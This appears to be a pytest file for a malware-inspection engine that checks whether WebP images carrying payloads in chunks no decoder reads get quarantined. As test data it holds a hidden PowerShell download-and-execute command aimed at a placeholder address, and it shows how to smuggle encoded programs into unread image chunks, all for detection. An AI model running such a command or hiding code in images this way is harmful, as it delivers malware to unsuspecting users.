"""WebP image chunks a decoder never reads are judged (agent/inspect/webp.py `_Layout`).

WebP container specification ("File Format"): a simple file is one VP8 or VP8L chunk; an
extended file starts with VP8X and holds one still image (an optional ALPH, then VP8 or
VP8L) or, with the animation flag (VP8X flags bit 1), ANIM and ANMF frames. A chunk
outside that layout (a second bitstream, frames in a still file) is skipped by libwebp.
A raw program is found anywhere by the whole-file search for program headers; an encoded
program or a script line only in a region a judge is given.
"""

from __future__ import annotations

import base64
import io
import struct

import pytest
from PIL import Image

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests.format_samples import gradient

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}


def _save(image: Image.Image, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, "WEBP", **options)
    return out.getvalue()


LOSSY = _save(gradient((64, 48)), quality=80)
WITH_ALPHA = _save(gradient((64, 48), "RGBA"), quality=80)  # VP8X, ALPH, VP8


def _chunk(fourcc: bytes, data: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(data)) + data + b"\x00" * (len(data) & 1)


def _appended(webp: bytes, chunk: bytes) -> bytes:
    """The file with `chunk` after its last chunk, the RIFF size grown to cover it."""
    grown = webp + chunk
    return grown[:4] + struct.pack("<I", len(grown) - 8) + grown[8:]


def _codes(data: bytes) -> tuple[str, set[str]]:
    report = inspect_bytes("photo.webp", data)
    return report.verdict.value, {f.code for f in report.findings}


UNREAD = {
    "second VP8L in a simple file": (LOSSY, b"VP8L"),
    "second VP8 in a simple file": (LOSSY, b"VP8 "),
    "ALPH after a simple file's bitstream": (LOSSY, b"ALPH"),
    "second VP8 in a still extended file": (WITH_ALPHA, b"VP8 "),
}


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("case", UNREAD)
def test_a_payload_in_an_image_chunk_no_decoder_reads_is_quarantined(case: str, kind: str) -> None:
    webp, fourcc = UNREAD[case]
    verdict, codes = _codes(_appended(webp, _chunk(fourcc, PAYLOADS[kind])))
    assert verdict == "quarantine"
    assert "webp.payload_in_metadata" in codes


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_a_frame_of_a_still_file_is_quarantined(kind: str) -> None:
    frame = _chunk(b"ANMF", bytes(16) + _chunk(b"VP8L", PAYLOADS[kind]))
    assert _codes(_appended(WITH_ALPHA, frame))[0] == "quarantine"


def test_pillows_still_alpha_and_animated_files_stay_clean() -> None:
    frames = [gradient((64, 48), "RGBA").rotate(30 * i) for i in range(3)]
    animated = _save(frames[0], save_all=True, append_images=frames[1:], duration=90)
    assert animated[12:16] == b"VP8X" and b"ANMF" in animated
    for webp in (LOSSY, WITH_ALPHA, animated, _save(gradient((64, 48)), lossless=True)):
        assert _codes(webp) == ("clean", set())


def test_harmless_bytes_in_an_unread_chunk_stay_clean() -> None:
    assert _codes(_appended(LOSSY, _chunk(b"VP8L", bytes(range(256)))))[0] == "clean"
